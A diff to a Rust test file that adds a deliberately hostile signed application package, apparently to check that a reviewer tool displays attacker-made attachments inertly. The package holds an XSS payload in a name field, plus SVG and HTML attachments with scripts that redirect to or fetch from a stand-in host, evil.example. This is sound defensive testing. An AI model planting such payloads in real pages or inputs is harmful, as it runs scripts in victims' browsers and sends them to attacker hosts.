@@ -70,8 +70,33 @@ fn vectors() -> Vec<(&'static str, Vec<u8>)> {
         app.package().bytes
     };
 
+    // Hostile content in a validly signed package: the reviewer must show
+    // it inert (an applicant's tool, not this app, could make it).
+    let hostile = {
+        let mut app = Application::minimal();
+        app.draft
+            .values
+            .set_text("unit_name", "<img src=x onerror=alert(1)>某某公司");
+        app.attach(
+            "s1",
+            "summary",
+            "活动总结.svg",
+            "image/svg+xml",
+            br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg')"><script>alert('svg script');location='http://evil.example/'</script></svg>"#,
+        );
+        app.attach(
+            "h1",
+            "media",
+            "报道.html",
+            "text/html",
+            b"<!doctype html><script>alert('html');fetch('http://evil.example/x')</script>",
+        );
+        app.package().bytes
+    };
+
     vec![
         ("ok_minimal.zip", minimal),
+        ("ok_script_attachments.zip", hostile),
         ("ok_attachments.zip", base.clone()),
         ("ok_industry_route.zip", industry),
         (
